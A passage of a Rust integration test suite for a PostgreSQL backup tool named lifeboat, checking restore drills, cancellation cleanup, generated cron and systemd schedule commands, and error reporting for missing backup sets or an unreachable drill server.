            "no phase `{expected}`: {phases:?}"
        );
    }
    for phase in record["phases"].as_array().expect("phases") {
        let (start, end) = (utc(&phase["started_at"]), utc(&phase["finished_at"]));
        let seconds = phase["seconds"]
            .as_f64()
            .unwrap_or_else(|| panic!("{phase:#}"));
        assert!(end >= start, "{phase:#}");
        let measured = (end - start).num_milliseconds() as f64 / 1000.0;
        assert!((seconds - measured).abs() < 0.01, "{phase:#}");
        assert_eq!(phase["ok"], true, "{phase:#}");
    }
    let target = record["target"].as_str().expect("target");
    let socket_dir = target
        .strip_prefix("ephemeral local cluster on the private socket in ")
        .and_then(|t| t.split_whitespace().next())
        .map(PathBuf::from)
        .unwrap_or_else(|| panic!("an ephemeral cluster target: {target}"));
    assert!(
        watched
            .seen
            .postmasters
            .iter()
            .any(|p| p.data_dir.parent() == Some(socket_dir.as_path())),
        "the cluster seen running is the one recorded: {:?} vs {}",
        watched.seen,
        socket_dir.display()
    );
    let checks = record["checks"].as_array().expect("checks");
    for t in manifest["source"]["key_tables"]
        .as_array()
        .expect("key tables")
    {
        let name = format!("rows in {}", t["table"].as_str().expect("table"));
        let check = checks
            .iter()
            .find(|c| c["name"] == name.as_str())
            .unwrap_or_else(|| panic!("no check `{name}`: {record:#}"));
        assert_eq!(check["kind"], "row count");
        assert_eq!(check["expected"], t["rows"].to_string(), "{check:#}");
        assert_eq!(check["actual"], t["rows"].to_string(), "{check:#}");
        assert_eq!(check["ok"], true);
    }
    for table in ["\"User\"", "billing.invoices"] {
        assert!(
            checks
                .iter()
                .any(|c| c["name"] == format!("rows in {table}").as_str()),
            "{table} is counted: {record:#}"
        );
    }
    let gapless = checks
        .iter()
        .find(|c| c["name"] == "invoices gapless")
        .expect("the configured check ran");
    assert_eq!(
        (gapless["ok"].clone(), gapless["actual"].clone()),
        (Value::from(true), Value::from("0"))
    );
    assert_eq!(utc(&record["newest_data"]), newest_source, "{record:#}");
    let expected_rpo =
        (utc(&record["started_at"]) - newest_source).num_milliseconds() as f64 / 1000.0;
    let rpo = record["rpo_data_seconds"]
        .as_f64()
        .expect("rpo_data_seconds");
    assert!(
        (rpo - expected_rpo).abs() <= 1.0,
        "RPO {rpo} s, expected drill start minus the newest source row = {expected_rpo} s"
    );
    assert!(rpo > 7200.0, "{rpo}");
    assert!(
        record["rpo_snapshot_seconds"]
            .as_f64()
            .expect("snapshot RPO")
            < 600.0
    );
    let rto = record["rto_seconds"].as_f64().expect("rto_seconds");
    assert!(rto > 0.0 && rto < 600.0, "{rto}");

    let id = record["drill_id"].as_str().expect("drill id").to_string();
    let stored_path = app.repo_dir().join("drills").join(format!("{id}.json"));
    let stored: Value = serde_json::from_slice(
        &std::fs::read(&stored_path)
            .unwrap_or_else(|e| panic!("the record {}: {e}", stored_path.display())),
    )
    .expect("the stored record is JSON");
    assert_eq!(stored, record, "the stored record is the one printed");
    let out = app.lifeboat(&["drill", "report", &id]);
    assert_exit("drill report", &out, 0);
    let report = text(&out.stdout);
    assert!(report.contains("RTO measured"), "{report}");
    assert!(report.contains("PASS"), "{report}");
    assert!(report.contains("invoices gapless"), "{report}");
    let out = app.lifeboat(&["drill", "list"]);
    assert_exit("drill list", &out, 0);
    assert!(text(&out.stdout).contains(&id), "{}", describe(&out));

    // (b) A scratch database on a server: the TestApp's own cluster.
    drill_config(&app, "0", Some(&app.cluster().url("postgres")));
    let watched = run_watched(&app, &["drill", "--json"], None);
    assert_exit("drill on a server", &watched.out, 0);
    assert!(
        watched.seen.postmasters.is_empty() && watched.seen.pg_restore,
        "a server drill restores without a cluster of its own: {:?}",
        watched.seen
    );
    assert_nothing_left_behind(&app, &watched);
    let record = json(&watched.out);
    assert_eq!(record["passed"], true, "{record:#}");
    let target = record["target"].as_str().expect("target");
    assert!(
        target.starts_with("scratch database app_drill_"),
        "{target}"
    );
    assert!(
        record["checks"]
            .as_array()
            .expect("checks")
            .iter()
            .all(|c| c["ok"] == true),
        "{record:#}"
    );

    // (c) A failing configured check fails the drill, and says which.
    drill_config(&app, "1", None);
    let watched = run_watched(&app, &["drill", "--json"], None);
    assert_exit("drill with a failing check", &watched.out, 1);
    assert_nothing_left_behind(&app, &watched);
    let record = json(&watched.out);
    assert_eq!(record["passed"], false, "{record:#}");
    assert_eq!(record["rto_seconds"], Value::Null, "{record:#}");
    let reasons = record["reasons"].to_string();
    assert!(reasons.contains("invoices gapless"), "{record:#}");
    let id = record["drill_id"].as_str().expect("drill id");
    assert!(app
        .repo_dir()
        .join("drills")
        .join(format!("{id}.json"))
        .exists());
    let out = app.lifeboat(&["drill", "report", id]);
    assert!(text(&out.stdout).contains("FAIL"), "{}", describe(&out));
    let (code, history) = app.lifeboat_json(&["drill", "list"]);
    assert_eq!(code, 0);
    assert_eq!(history.as_array().expect("records").len(), 3, "{history:#}");

    // The source was never the target.
    assert_eq!(
        app.psql("SELECT count(*) FROM audit_log WHERE action = 'after the backup'"),
        "1"
    );
}

/// Cancelled while its cluster runs (the cluster starts while the dump decrypts, so the cancel
/// lands in the decrypt or the restore phase) and while pg_restore runs; Ctrl-C in a terminal,
/// which signals the whole process group, and SIGINT to lifeboat alone: the drill stops,
/// is recorded as cancelled (not failed: status still reports the drill before it), and
/// tears everything down.
#[test]
fn a_cancelled_drill_leaves_nothing_behind() {
    let app = TestApp::new(AppOptions {
        secrets: false,
        ..AppOptions::default()
    });
    let set = app.backup();
    drill_config(&app, "0", None);
    // A completed drill first: the cancelled ones after it must not replace its verdict.
    let passed = app.lifeboat(&["drill", "--json"]);
    assert_exit("a drill that passes", &passed, 0);
    let passed_id = json(&passed)["drill_id"]
        .as_str()
        .expect("drill id")
        .to_string();
    let status_before = app.lifeboat(&["status"]).status.code();
    let cluster_up = |seen: &Seen| seen.dump && !seen.postmasters.is_empty();
    let restoring = |seen: &Seen| seen.pg_restore;
    // (what, when, whether pg_restore had started)
    let cases = [
        (
            "Ctrl-C once the drill cluster runs",
            Interrupt {
                when: &cluster_up,
                group: true,
            },
            false,
        ),
        (
            "Ctrl-C during pg_restore",
            Interrupt {
                when: &restoring,
                group: true,
            },
            true,
        ),
        (
            "SIGINT to lifeboat during pg_restore",
            Interrupt {
                when: &restoring,
                group: false,
            },
            true,
        ),
    ];
    for (how, interrupt, in_restore) in cases {
        let watched = run_watched(&app, &["drill", "--json"], Some(interrupt));
        assert_eq!(
            watched.out.status.code(),
            Some(6),
            "{how}: a cancelled drill exits as interrupted: {}",
            describe(&watched.out)
        );
        assert_nothing_left_behind(&app, &watched);
        let record = json(&watched.out);
        assert_eq!(record["passed"], false, "{how}: {record:#}");
        assert_eq!(record["cancelled"], true, "{how}: {record:#}");
        assert_eq!(record["set_id"], set.as_str());
        assert!(
            record["reasons"]
                .to_string()
                .contains("cancelled by the operator"),
            "{how}: {record:#}"
        );
        // The snapshot time is the set's, never the drill's start.
        assert_ne!(record["set_snapshot_time"], record["started_at"], "{how}");
        let id = record["drill_id"].as_str().expect("drill id");
        let report = app.lifeboat(&["drill", "report", id]);
        assert_exit("drill report", &report, 0);
        let report = text(&report.stdout);
        assert!(report.contains("CANCELLED"), "{how}: {report}");
        assert!(
            !report.contains("no freshness query configured")
                && report.contains("before the freshness query ran"),
            "{how}: a freshness query is configured: {report}"
        );
        let status = app.lifeboat(&["status", "--json"]);
        assert_eq!(
            status.status.code(),
            status_before,
            "{how}: {}",
            describe(&status)
        );
        assert_eq!(
            json(&status)["newest_drill"]["drill_id"],
            passed_id.as_str(),
            "{how}: the last completed drill counts"
        );
        let phases = phase_names(&record);
        let reached = if in_restore { "restore" } else { "decrypt" };
        assert!(phases.iter().any(|p| p == reached), "{how}: {phases:?}");
        assert!(
            !phases.iter().any(|p| p == "checks"),
            "{how}: checks ran after the cancel: {phases:?}"
        );
        assert_eq!(
            phases.last().map(String::as_str),
            Some("teardown"),
            "{how}: {phases:?}"
        );
        let teardown = &record["phases"]
            .as_array()
            .expect("phases")
            .last()
            .cloned()
            .unwrap_or_default();
        assert_eq!(teardown["ok"], true, "{how}: {teardown:#}");
        let id = record["drill_id"].as_str().expect("drill id");
        assert!(
            app.repo_dir()
                .join("drills")
                .join(format!("{id}.json"))
                .exists(),
            "{how}: the record is stored"
        );
        let stopped = record["phases"]
            .as_array()
            .expect("phases")
            .iter()
            .rev()
            .find(|p| p["name"] != "teardown")
            .cloned()
            .unwrap_or_default();
        assert_ne!(
            stopped["detail"], "",
            "{how}: the interrupted phase says what happened: {stopped:#}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Schedules and drills that did not run (issue 14).

/// The commands `schedule install` writes, as cron and systemd would run them: every crontab
/// line through `sh -c` in cron's bare environment, every ExecStart with its `Environment=`
/// lines. Each must exit 0 against the test repository, and the scheduled verification is
/// recorded as the schedule's.
#[test]
fn every_scheduled_command_runs() {
    let app = TestApp::new(AppOptions {
        secrets: false,
        ..AppOptions::default()
    });
    drill_config(&app, "0", None);
    app.backup();
    let bare = |script: &str, env: &[(String, String)]| {
        let mut cmd = Command::new("/bin/sh");
        cmd.arg("-c")
            .arg(script)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", app.root())
            .envs(env.iter().cloned())
            .stdin(Stdio::null());
        cmd.output().expect("run sh")
    };
    // cron: the default schedule (a backup and a verification).
    let block = run_ok(
        "schedule install --cron --dry-run",
        &mut app.command(&[
            "schedule",
            "install",
            "--cron",
            "--crontab",
            "/nonexistent/tab",
            "--dry-run",
        ]),
    );
    let block = text(&block);
    let lines: Vec<&str> = block
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .collect();
    assert_eq!(lines.len(), 2, "a backup and a verification: {block}");
    let mut minutes = Vec::new();
    for line in &lines {
        let fields: Vec<&str> = line.splitn(6, ' ').collect();
        minutes.push(fields[..5].join(" "));
        let out = bare(fields[5], &[]);
        assert_exit(&format!("the crontab line `{line}`"), &out, 0);
    }
    assert_ne!(
        minutes[0], minutes[1],
        "backup and verify start in the same minute: {block}"
    );
    // systemd: every job, drill included.
    let units = run_ok(
        "schedule install --systemd --dry-run",
        &mut app.command(&[
            "schedule",
            "install",
            "--unit-dir",
            &app.root().join("units").display().to_string(),
            "--backup",
            "daily",
            "--verify",
            "30 0 * * *",
            "--drill",
            "weekly",
            "--dry-run",
        ]),
    );
    let units = text(&units);
    let services: Vec<&str> = units
        .split("# --- ")
        .filter(|u| u.lines().next().is_some_and(|l| l.ends_with(".service")))
        .collect();
    assert_eq!(services.len(), 3, "{units}");
    for service in services {
        let unquote = |w: &str| w.trim_matches('"').replace("%%", "%").replace("$$", "$");
        let env: Vec<(String, String)> = service
            .lines()
            .filter_map(|l| l.strip_prefix("Environment="))
            .filter_map(|v| {
                let v = unquote(v);
                v.split_once('=')
                    .map(|(k, v)| (k.to_string(), v.to_string()))
            })
            .collect();
        let exec = service
            .lines()
            .find_map(|l| l.strip_prefix("ExecStart="))
            .unwrap_or_else(|| panic!("no ExecStart in {service}"));
        let words: Vec<String> = exec.split_whitespace().map(unquote).collect();
        let mut cmd = Command::new(&words[0]);
        cmd.args(&words[1..])
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", app.root())
            .envs(env)
            .stdin(Stdio::null());
        let out = cmd.output().expect("run ExecStart");
        assert_exit(&format!("ExecStart={exec}"), &out, 0);
    }
    let journal = std::fs::read_to_string(app.journal_path()).expect("journal");
    let scheduled = journal
        .lines()
        .filter(|l| {
            l.contains("\"type\":\"verification\"") && l.contains("\"initiator\":\"schedule\"")
        })
        .count();
    assert!(
        scheduled >= 2,
        "the scheduled verifications are recorded as the schedule's: {journal}"
    );
}

fn drill_records(app: &TestApp) -> Vec<PathBuf> {
    files_below(&app.repo_dir().join("drills"))
}

fn journal_drills(app: &TestApp) -> usize {
    std::fs::read_to_string(app.journal_path())
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains("\"type\":\"drill\""))
        .count()
}

/// The `lifeboat: ...` line a command printed on stderr.
fn complaint(out: &Output) -> String {
    text(&out.stderr)
        .lines()
        .find(|l| l.starts_with("lifeboat: "))
        .unwrap_or_else(|| panic!("no `lifeboat:` line: {}", describe(out)))
        .to_string()
}

/// A drill of a set that is not there, or with a drill server out of reach, is a usage or a
/// setup error: nothing is recorded and `status` does not change. verify, restore and drill
/// say the same about a missing set, and all take `latest`.
#[test]
fn a_drill_that_did_not_run_records_nothing() {
    let app = TestApp::new(AppOptions {
        secrets: false,
        ..AppOptions::default()
    });
    let set = app.backup();
    drill_config(&app, "0", None);
    let status_before = app.lifeboat(&["status"]).status.code();
    for missing in ["nosuchid", "20200101T000000Z-dead"] {
        let said: Vec<String> = [
            vec!["verify", missing],
            vec!["restore", missing, "--dry-run"],
            vec!["drill", missing],
        ]
        .iter()
        .map(|args| {
            let out = app.lifeboat(args);
            assert_exit(&format!("{args:?}"), &out, 2);
            complaint(&out)
        })
        .collect();
        assert!(said[0].contains(missing), "{said:?}");
        // Said once, as what it is: not "failed", not "error: error".
        let (head, tail) = if missing == "nosuchid" {
            (
                format!(
                    "lifeboat: `nosuchid` is not a set id or `latest` (expected {}; see `lifeboat list`)",
                    lifeboat::storage::setid::SET_ID_FORMAT
                ),
                "",
            )
        } else {
            (
                format!("lifeboat: no set `{missing}` in "),
                " (see `lifeboat list` for the sets there)",
            )
        };
        assert!(
            said[0].starts_with(&head) && said[0].ends_with(tail),
            "{said:?}"
        );
        assert!(
            said.iter().all(|s| *s == said[0]),
            "verify, restore and drill disagree about `{missing}`: {said:#?}"
        );
    }
    assert!(drill_records(&app).is_empty(), "{:?}", drill_records(&app));
    assert_eq!(journal_drills(&app), 0);
    assert_eq!(app.lifeboat(&["status"]).status.code(), status_before);

    // A drill server nothing listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port();
    drill_config(
        &app,
        "0",
        Some(&format!(
            "postgresql://lifeboat@127.0.0.1:{port}/postgres?connect_timeout=5"
        )),
    );
    let out = app.lifeboat(&["drill"]);
    assert_exit("drill with an unreachable server", &out, 1);
    assert!(
        complaint(&out).contains("[drill].server_url"),
        "{}",
        describe(&out)
    );
    assert!(drill_records(&app).is_empty(), "{:?}", drill_records(&app));
    assert_eq!(journal_drills(&app), 0);
    assert_eq!(app.lifeboat(&["status"]).status.code(), status_before);

    // `latest` names the newest set for all three.
    drill_config(&app, "0", None);
    assert_exit("verify latest", &app.lifeboat(&["verify", "latest"]), 0);
    assert_exit(
        "restore latest --dry-run",
        &app.lifeboat(&["restore", "latest", "--dry-run"]),
        0,
    );
    let out = app.lifeboat(&["drill", "latest", "--json"]);
    assert_exit("drill latest", &out, 0);
    assert_eq!(json(&out)["set_id"], set.as_str());
}
